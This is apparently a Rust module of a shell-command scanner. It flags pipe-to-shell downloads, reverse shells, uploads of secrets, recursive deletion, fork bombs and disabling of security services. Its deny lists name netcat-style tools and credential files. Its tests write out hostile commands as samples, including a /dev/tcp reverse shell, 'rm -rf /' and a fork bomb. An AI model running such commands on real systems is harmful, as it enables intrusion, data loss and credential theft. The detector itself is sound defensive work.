//! Finds harmful shell commands: those that run downloaded code, delete files, open remote access, or send files away.
//!
//! Commands are parsed with their quotes, pipes and substitutions, so `echo "rm -rf /"` is text and `'rm' -rf /` is a
//! command. Not detected: a command assembled from variables, a here-document that a shell runs, and code in another
//! language. Policies call it by the function `semgrep`, and [`python`](super::python) calls it for notebooks.

mod syntax;

use std::collections::BTreeSet;
use std::ops::Range;

use super::MAX_FINDINGS;
use syntax::{Pipeline, ShellCommand, Word};

/// The severity of a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum IssueSeverity {
    /// Rarely needed, and often a step of an attack.
    Warning,
    /// Destroys data, opens access or sends data.
    Error,
}

impl IssueSeverity {
    /// Returns `warning` or `error`.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Warning => "warning",
            Self::Error => "error",
        }
    }
}

/// An unsafe command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UnsafeCommand {
    /// The effect, such as `PIPE_TO_SHELL`.
    pub kind: &'static str,
    /// The bytes of the command or pipeline.
    pub span: Range<usize>,
    /// The severity.
    pub severity: IssueSeverity,
}

/// Substitutions and `bash -c` are followed to this depth.
const MAX_DEPTH: usize = 6;

/// Returns the unsafe commands of a script, in order, without duplicates.
///
/// ```
/// let issues = flowgate_detect::shell::find("cd /tmp && curl https://x.example/i | sudo bash");
/// assert_eq!((issues[0].kind, issues[0].span.start), ("PIPE_TO_SHELL", 11));
/// ```
pub fn find(text: &str) -> Vec<UnsafeCommand> {
    let mut finder = CommandScanner::default();
    finder.scan_script(text, &ScriptLocation::From(0), 0);
    // The fork bomb defines a function named `:`, which the parser does not read as a command.
    let squeezed: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    if squeezed.contains(":(){:|:&};:") {
        // An estimate: the white space is lost, and with it the exact position.
        let start = text.find(':').unwrap_or(0);
        finder.issues.push(UnsafeCommand {
            kind: "FORK_BOMB",
            span: start..text.len(),
            severity: IssueSeverity::Error,
        });
    }
    let mut issues = finder.issues;
    issues.sort_by_key(|issue| (issue.span.start, issue.span.end));
    issues.dedup();
    issues.truncate(MAX_FINDINGS);
    issues
}

/// The location of a script in the whole text.
#[derive(Clone)]
enum ScriptLocation {
    /// From this byte on.
    From(usize),
    /// Somewhere within these bytes: the quotes around it were removed, so positions in it do not correspond to the
    /// text.
    Within(Range<usize>),
}

impl ScriptLocation {
    /// Returns the bytes of the whole text that a range of the script is at, or is within.
    fn locate(&self, range: Range<usize>) -> Range<usize> {
        match self {
            Self::From(offset) => range.start + offset..range.end + offset,
            Self::Within(whole) => whole.clone(),
        }
    }
}

/// Collects the unsafe commands of a script.
#[derive(Default)]
struct CommandScanner {
    issues: Vec<UnsafeCommand>,
    /// The names of the files into which earlier commands downloaded.
    fetched: BTreeSet<String>,
}

impl CommandScanner {
    /// Reports the unsafe commands of a script: commands that are unsafe alone, and combinations in a pipeline, such as
    /// a download that a shell executes. Scans nested scripts recursively (substitutions, and arguments that a shell
    /// executes). `location` maps spans of `text` to the whole text, and `depth` counts the enclosing scripts.
    fn scan_script(&mut self, text: &str, location: &ScriptLocation, depth: usize) {
        for pipeline in syntax::read(text) {
            if self.issues.len() > 2 * MAX_FINDINGS {
                return;
            }
            let mut report = |kind, span, severity| {
                self.issues.push(UnsafeCommand { kind, span: location.locate(span), severity });
            };
            let calls: Vec<EffectiveCommand<'_>> = pipeline.iter().map(EffectiveCommand::new).collect();
            // The scripts in the substitutions of a word.
            let substituted_scripts = |word: &Word| -> String {
                word.inner.iter().filter_map(|range| text.get(range.clone())).collect::<Vec<_>>().join("\n")
            };
            for (i, call) in calls.iter().enumerate() {
                call.report_effects(&mut |kind, severity| report(kind, call.command.span(), severity));
                let earlier = calls.get(..i).unwrap_or_default();
                let whole = || pipeline_span(&pipeline);
                if call.reads_script() {
                    if earlier.iter().any(EffectiveCommand::fetches) {
                        report("PIPE_TO_SHELL", whole(), IssueSeverity::Error);
                    }
                    if earlier.iter().any(EffectiveCommand::decodes) {
                        report("DECODE_TO_SHELL", whole(), IssueSeverity::Error);
                    }
                }
                if call.connects() {
                    if earlier.iter().any(|call| call.is_one_of(SHELLS) && call.has_argument("-i")) {
                        report("REVERSE_SHELL", whole(), IssueSeverity::Error);
                    }
                    if earlier.iter().any(|call| {
                        call.reads_sensitive() || call.is_one_of(&["tar", "zip"]) || call.dumps_environment()
                    }) {
                        report("UPLOAD", whole(), IssueSeverity::Error);
                    }
                }
                let substitutions: String =
                    call.words().map(&substituted_scripts).collect::<Vec<_>>().join("\n");
                // The commands in the substitutions of the arguments.
                let nested: Vec<Pipeline> =
                    if substitutions.is_empty() { Vec::new() } else { syntax::read(&substitutions) };
                let nested = || nested.iter().flatten().map(EffectiveCommand::new);
                let runs = call.is_one_of(INTERPRETERS) || call.is_one_of(&["source", "."]);
                if runs
                    && (nested().any(|inner| inner.fetches())
                        || call.words().any(|w| self.fetched.contains(&w.text)))
                {
                    report("PIPE_TO_SHELL", call.command.span(), IssueSeverity::Error);
                }
                if call.fetches()
                    && nested().any(|inner| inner.is_one_of(READERS) || inner.dumps_environment())
                {
                    report("UPLOAD", call.command.span(), IssueSeverity::Error);
                }
            }
            // The files into which a command downloads; a later command may run one of them.
            for call in calls.iter().filter(|call| call.fetches()) {
                let redirected = call.command.redirects.iter().filter(|(op, _)| op.starts_with('>'));
                self.fetched.extend(redirected.map(|(_, word)| word.text.clone()));
                self.fetched
                    .extend(["-o", "-O", "--output"].iter().filter_map(|option| call.option_value(option)));
            }
            if depth < MAX_DEPTH {
                for call in &calls {
                    for range in call.every_word().flat_map(|word| &word.inner) {
                        let at = match location {
                            ScriptLocation::From(offset) => ScriptLocation::From(offset + range.start),
                            within => within.clone(),
                        };
                        self.scan_script(text.get(range.clone()).unwrap_or_default(), &at, depth + 1);
                    }
                    if let Some((script, span)) = call.inner_script() {
                        self.scan_script(&script, &ScriptLocation::Within(location.locate(span)), depth + 1);
                    }
                }
            }
        }
    }
}

/// Returns the bytes from the first to the last command of a pipeline.
fn pipeline_span(pipeline: &[ShellCommand]) -> Range<usize> {
    let first = pipeline.first().map_or(0, |command| command.span().start);
    first..pipeline.last().map_or(first, |command| command.span().end)
}

/// A command without its assignments and wrappers.
struct EffectiveCommand<'c> {
    command: &'c ShellCommand,
    /// The program without its directory.
    name: &'c str,
    /// Its arguments.
    arguments: &'c [Word],
    /// Whether it runs under `sudo` or `doas`.
    elevated: bool,
}

/// Programs that run a script of shell commands.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish", "ash"];
/// Programs that run a script in some language, shells included.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "fish", "ash", "python", "python2", "python3", "perl", "ruby",
    "node", "php",
];
/// Programs that download.
const FETCHERS: &[&str] = &["curl", "wget", "fetch", "http", "https", "aria2c"];
/// Programs that print a file, as text or encoded.
const READERS: &[&str] = &["cat", "base64", "head", "tail", "less", "more", "xxd", "od", "strings"];
/// Programs that connect their input and output to a network address.
const NETCATS: &[&str] = &["nc", "ncat", "netcat"];

impl<'c> EffectiveCommand<'c> {
    /// Finds the program that a command executes: skips assignments (`A=1 rm`), keywords (`then rm`) and wrappers
    /// with their options (`sudo -u x rm`). `elevated` is set if `sudo` or `doas` was skipped. A command without a
    /// program has an empty name.
    fn new(command: &'c ShellCommand) -> Self {
        let mut words = command.words.as_slice();
        let mut elevated = false;
        while let Some((first, rest)) = words.split_first() {
            let name = program_name(&first.text);
            let assignment = first.text.split_once('=').is_some_and(|(name, _)| {
                !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            });
            let keyword = matches!(
                name,
                "then" | "do" | "else" | "elif" | "if" | "while" | "until" | "!" | "{" | "}" | "time"
            );
            // The options of a wrapper that take a value in the next word.
            let wrapper = match name {
                "sudo" | "doas" => Some("ugpCRTh"),
                "timeout" => Some("ks"),
                "nice" | "ionice" => Some("nc"),
                "nohup" | "exec" | "command" | "builtin" | "stdbuf" | "setsid" | "busybox" => Some(""),
                // Without a command, `env` prints the variables and is the program itself.
                "env" if rest.iter().any(|word| !word.text.contains('=') && !word.text.starts_with('-')) => {
                    Some("uC")
                }
                _ => None,
            };
            if assignment || keyword {
                words = rest;
                continue;
            }
            // `sudo su` and `sudo -i` are the command itself.
            let Some(options_with_value) = wrapper.filter(|_| !rest.is_empty()) else { break };
            let mut options = rest;
            while let Some((option, after)) =
                options.split_first().filter(|(word, _)| word.text.starts_with('-'))
            {
                let takes_value =
                    option.text.len() == 2 && option.text.ends_with(|c| options_with_value.contains(c));
                options = if takes_value { after.get(1..).unwrap_or_default() } else { after };
            }
            // The first argument of `timeout` is the duration.
            if name == "timeout" {
                options = options.get(1..).unwrap_or_default();
            }
            if options.is_empty() {
                break;
            }
            elevated |= matches!(name, "sudo" | "doas");
            words = options;
        }
        let (name, arguments) = match words.split_first() {
            Some((first, rest)) => (program_name(&first.text), rest),
            None => ("", words),
        };
        Self { command, name, arguments, elevated }
    }

    /// Returns whether the program has one of these names.
    fn is_one_of(&self, names: &[&str]) -> bool {
        names.contains(&self.name)
    }

    /// Returns the arguments.
    fn words(&self) -> impl Iterator<Item = &'c Word> + use<'c> {
        self.arguments.iter()
    }

    /// Returns all words, including those before the program and in redirections.
    fn every_word(&self) -> impl Iterator<Item = &'c Word> + use<'c> {
        self.command.words.iter().chain(self.command.redirects.iter().map(|(_, word)| word))
    }

    /// Returns the texts of the arguments.
    fn texts(&self) -> impl Iterator<Item = &'c str> + use<'c> {
        self.arguments.iter().map(|word| word.text.as_str())
    }

    fn has_argument(&self, argument: &str) -> bool {
        self.texts().any(|text| text == argument)
    }

    /// Returns whether a letter is among the short options, or the long option is present.
    fn has_option(&self, letter: char, long: &str) -> bool {
        self.texts().any(|text| {
            text == long || text.starts_with('-') && !text.starts_with("--") && text.contains(letter)
        })
    }

    /// Returns the value of an option: the argument after it, or the text after `=`. `None` if the option is absent.
    fn option_value(&self, option: &str) -> Option<String> {
        let after = self.texts().zip(self.texts().skip(1)).find(|(text, _)| *text == option);
        let joined = || self.texts().find_map(|text| text.strip_prefix(option)?.strip_prefix('='));
        after.map(|(_, value)| value).or_else(joined).map(str::to_owned)
    }

    /// Returns whether the command downloads.
    fn fetches(&self) -> bool {
        self.is_one_of(FETCHERS)
    }

    /// Returns whether the command decodes or transforms its input, which can hide a script.
    fn decodes(&self) -> bool {
        match self.name {
            "base64" | "base32" => self.has_option('d', "--decode") || self.has_argument("-D"),
            "xxd" => self.has_option('r', "-revert"),
            "openssl" => self.has_option('d', "-d"),
            "rev" | "tr" => true,
            _ => false,
        }
    }

    /// Returns whether the command executes its standard input.
    fn reads_script(&self) -> bool {
        let operands = self.texts().filter(|text| !text.starts_with('-')).count();
        self.is_one_of(SHELLS) && (operands == 0 || self.has_option('s', "-s"))
            || self.is_one_of(INTERPRETERS) && (self.arguments.is_empty() || self.has_argument("-"))
    }

    /// Returns whether the command sends its standard input over the network.
    fn connects(&self) -> bool {
        let sends = |text: &str| matches!(text, "-" | "@-") || text.ends_with("=@-");
        self.is_one_of(NETCATS)
            || self.is_one_of(&["socat", "telnet"])
            || self.fetches() && self.texts().any(sends)
    }

    /// Returns whether an argument or the input is a file with keys or passwords.
    fn reads_sensitive(&self) -> bool {
        self.texts().any(is_sensitive_path)
            || self.command.redirects.iter().any(|(op, word)| *op == "<" && is_sensitive_path(&word.text))
    }

    /// Returns whether the command prints the environment variables, which often contain secrets.
    fn dumps_environment(&self) -> bool {
        self.is_one_of(&["env", "printenv"]) && self.arguments.is_empty()
            || self.is_one_of(&["export", "declare"]) && self.has_option('p', "-p")
            || self.texts().any(|text| text.starts_with("/proc/") && text.ends_with("/environ"))
    }

    /// Returns the script that `eval` or `bash -c` receives as an argument, with the bytes of the text that contain
    /// it. `None` if the command runs no such script, or if the script of `-c` contains a variable, so that its text
    /// is unknown.
    fn inner_script(&self) -> Option<(String, Range<usize>)> {
        if self.name == "eval" {
            let arguments: Vec<_> = self.texts().collect();
            return Some((arguments.join(" "), self.command.span()));
        }
        // `-c` may be combined with other options, as in `-lc`.
        let at = self.texts().position(|text| text.starts_with('-') && text.ends_with('c'))?;
        let word =
            self.arguments.get(at + 1).filter(|_| self.is_one_of(SHELLS) || self.is_one_of(&["su"]))?;
        // Substitutions in double quotes have already been followed.
        (!word.dynamic).then(|| (word.text.clone(), word.span.clone()))
    }

    /// Reports the unsafe effects of the command alone, regardless of the other commands of its pipeline.
    fn report_effects(&self, report: &mut dyn FnMut(&'static str, IssueSeverity)) {
        use IssueSeverity::{Error, Warning};
        let any = |test: fn(&str) -> bool| self.texts().any(test);
        let writes = |test: fn(&str) -> bool| {
            let to_file =
                self.command.redirects.iter().any(|(op, word)| op.contains('>') && test(&word.text));
            to_file || self.name == "tee" && self.texts().any(test)
        };
        let is_device = |text: &str| {
            ["/dev/sd", "/dev/hd", "/dev/vd", "/dev/nvme", "/dev/disk", "/dev/mmcblk", "/dev/mapper"]
                .iter()
                .any(|prefix| text.starts_with(prefix))
        };
        let is_socket = |text: &str| text.contains("/dev/tcp/") || text.contains("/dev/udp/");
        if self.every_word().any(|word| is_socket(&word.text)) {
            report("REVERSE_SHELL", Error);
        }
        match self.name {
            "eval" => report("EVAL", if self.words().any(|word| word.dynamic) { Error } else { Warning }),
            "rm" => {
                let recursive = self.has_option('r', "--recursive") || self.has_option('R', "--recursive");
                if recursive && any(is_root) || self.has_argument("--no-preserve-root") {
                    report("REMOVE_ALL", Error);
                }
            }
            "find" if any(is_root) && (self.has_argument("-delete") || self.has_argument("rm")) => {
                report("REMOVE_ALL", Error)
            }
            "chmod" => {
                if any(|text| {
                    matches!(
                        text,
                        "777"
                            | "0777"
                            | "a+rwx"
                            | "a=rwx"
                            | "ugo+rwx"
                            | "+rwx"
                            | "o+w"
                            | "a+w"
                            | "666"
                            | "0666"
                    )
                }) {
                    report("WORLD_WRITABLE", Warning);
                }
                // The program then runs with the rights of its owner (`u+s`, `4755`) or its group.
                if any(|text| {
                    matches!(text, "u+s" | "+s" | "g+s" | "ug+s")
                        || text.len() == 4 && text.starts_with(['4', '6'])
                }) {
                    report("PRIVILEGE", Error);
                }
            }
            "dd" if self.texts().filter_map(|text| text.strip_prefix("of=")).any(is_device) => {
                report("DISK_WRITE", Error);
            }
            "shred" | "wipefs" | "fdisk" if any(is_device) => report("DISK_WRITE", Error),
            "curl" | "wget" | "http" | "https" => {
                let sends_file =
                    |text: &str| text.starts_with('@') || text.contains("=@") || text.starts_with("-d@");
                let file_options = ["-T", "--upload-file", "--post-file", "--body-file"];
                if any(sends_file) || file_options.iter().any(|option| self.option_value(option).is_some()) {
                    report("UPLOAD", Error);
                }
            }
            "scp" | "rsync" | "sftp" => {
                let remote = self.texts().last().is_some_and(|text| text.contains(':'));
                if remote && any(is_sensitive_path) {
                    report("UPLOAD", Error);
                }
            }
            "nc" | "ncat" | "netcat" => {
                let runs = self.has_option('e', "--exec") || self.has_option('c', "--sh-exec");
                if runs || any(|text| text.starts_with("--exec=") || text.starts_with("--sh-exec=")) {
                    report("REVERSE_SHELL", Error);
                }
            }
            "socat"
                if any(|text| text.to_ascii_uppercase().contains("EXEC:") || text.contains("SYSTEM:")) =>
            {
                report("REVERSE_SHELL", Error);
            }
            "crontab" if self.arguments.is_empty() || any(|text| text == "-" || !text.starts_with('-')) => {
                report("PERSISTENCE", Warning);
            }
            "history" if self.has_option('c', "-c") => report("HISTORY", Warning),
            "unset" if any(|text| text.starts_with("HIST")) => report("HISTORY", Warning),
            "setenforce" if self.has_argument("0") => report("DISABLE_SECURITY", Error),
            "iptables" | "ip6tables" | "nft"
                if self.has_option('F', "--flush") || self.has_argument("flush") =>
            {
                report("DISABLE_SECURITY", Error);
            }
            "ufw" if self.has_argument("disable") => report("DISABLE_SECURITY", Error),
            "systemctl" | "service" => {
                let is_security_service = |text: &str| {
                    ["firewalld", "ufw", "auditd", "apparmor", "falcon", "iptables"]
                        .iter()
                        .any(|name| text.starts_with(name))
                };
                if any(is_security_service) && any(|text| matches!(text, "stop" | "disable" | "mask")) {
                    report("DISABLE_SECURITY", Error);
                }
            }
            "sudo" | "doas" if any(|text| matches!(text, "-i" | "-s")) => report("PRIVILEGE", Warning),
            "usermod" | "gpasswd" if any(|text| matches!(text, "sudo" | "wheel" | "root" | "docker")) => {
                report("PRIVILEGE", Error);
            }
            name if name.starts_with("mkfs") => report("DISK_WRITE", Error),
            name if INTERPRETERS.contains(&name) => {
                // Whether the text is code that connects a shell to a socket.
                let code = |text: &str| {
                    let has =
                        |words: &[&str]| words.iter().any(|word| text.to_ascii_lowercase().contains(word));
                    has(&["socket", "tcpsocket", "fsockopen"])
                        && has(&["pty.spawn", "/bin/sh", "/bin/bash", "dup2", "subprocess", "exec"])
                };
                if any(code) {
                    report("REVERSE_SHELL", Error);
                }
            }
            _ => {}
        }
        if self.elevated && (self.name == "su" || self.is_one_of(SHELLS) && self.arguments.is_empty()) {
            report("PRIVILEGE", Warning);
        }
        if writes(is_device) {
            report("DISK_WRITE", Error);
        }
        if writes(|text| text.starts_with("/etc/sudoers")) {
            report("PRIVILEGE", Error);
        }
        let is_run_at_start = |text: &str| {
            [".ssh/authorized_keys", ".bashrc", ".bash_profile", ".profile", ".zshrc"]
                .iter()
                .any(|end| text.ends_with(end))
                || ["/etc/cron", "/etc/profile", "/etc/rc.local", "/etc/systemd/", "/var/spool/cron"]
                    .iter()
                    .any(|start| text.starts_with(start))
        };
        if writes(is_run_at_start) {
            report("PERSISTENCE", Warning);
        }
        if self.is_one_of(&["rm", "shred", "truncate", "ln"]) && any(|text| text.ends_with("_history"))
            || writes(|text| text.ends_with("_history"))
        {
            report("HISTORY", Warning);
        }
        if self.dumps_environment() {
            report("ENVIRONMENT_DUMP", Warning);
        }
        let harmless_readers =
            ["echo", "printf", "grep", "rg", "git", "ls", "stat", "chmod", "chown", "test", "["];
        if self.reads_sensitive() && !self.is_one_of(&harmless_readers) {
            report("SENSITIVE_FILE", Warning);
        }
    }
}

/// Returns the name of a program without its directory.
fn program_name(word: &str) -> &str {
    word.rsplit('/').next().filter(|name| !name.is_empty()).unwrap_or(word)
}

/// Returns whether a path is a whole tree: the root, a home directory, or a system directory.
fn is_root(path: &str) -> bool {
    let path = path.trim_end_matches('*');
    let path = if path.len() > 1 { path.trim_end_matches('/') } else { path };
    matches!(
        path,
        "/" | "~"
            | "$HOME"
            | "${HOME}"
            | "/root"
            | "/home"
            | "/etc"
            | "/usr"
            | "/var"
            | "/bin"
            | "/boot"
            | "/lib"
            | "/opt"
            | "/sbin"
            | "/dev"
            | "/Users"
            | "/System"
    )
}

/// Returns whether a path contains keys or passwords.
fn is_sensitive_path(path: &str) -> bool {
    let path = path.trim_start_matches('@');
    let files = [
        "/etc/shadow",
        "/etc/gshadow",
        "/etc/sudoers",
        ".aws/credentials",
        ".netrc",
        ".pgpass",
        ".git-credentials",
        ".docker/config.json",
        ".kube/config",
        ".npmrc",
        ".pypirc",
        ".ssh/config",
        "/master.key",
    ];
    files.iter().any(|file| path.ends_with(file))
        || path.contains(".ssh/id_") && !path.ends_with(".pub")
        || path.contains(".gnupg/")
        || path.starts_with("/proc/") && path.ends_with("/environ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_unsafe() {
        let check = |text: &str, expected: &[(&str, &str)]| {
            let found: Vec<_> =
                find(text).into_iter().map(|issue| (issue.kind, text.get(issue.span).unwrap())).collect();
            assert_eq!(found, expected, "{text}");
        };
        check("ls; curl x | sudo bash -s -- -y", &[("PIPE_TO_SHELL", "curl x | sudo bash -s -- -y")]);
        check("bash -c \"$(curl x)\"", &[("PIPE_TO_SHELL", "bash -c \"$(curl x)\"")]);
        check("curl x > i.sh && bash i.sh", &[("PIPE_TO_SHELL", "bash i.sh")]);
        check("echo x | base64 -d | sh", &[("DECODE_TO_SHELL", "echo x | base64 -d | sh")]);
        check("a $(rm -rf /) b", &[("REMOVE_ALL", "rm -rf /")]);
        check("bash -c 'rm -rf ~'", &[("REMOVE_ALL", "'rm -rf ~'")]);
        check(
            "FOO=1 sudo -u root timeout 5 rm -r -f /etc/",
            &[("REMOVE_ALL", "FOO=1 sudo -u root timeout 5 rm -r -f /etc/")],
        );
        check("eval $x", &[("EVAL", "eval $x")]);
        check(
            "bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
            &[("REVERSE_SHELL", "bash -i >& /dev/tcp/1.2.3.4/5 0>&1")],
        );
        check("echo 'rm -rf /' # eval $x", &[]);
        check("rm -rf target", &[]);
        check(":(){ :|:& };:", &[("FORK_BOMB", ":(){ :|:& };:")]);
    }

    #[test]
    fn depth_is_bounded() {
        let deep = format!("{}rm -rf /{}", "$(".repeat(5000), ")".repeat(5000));
        assert!(find(&deep).is_empty());
    }
}
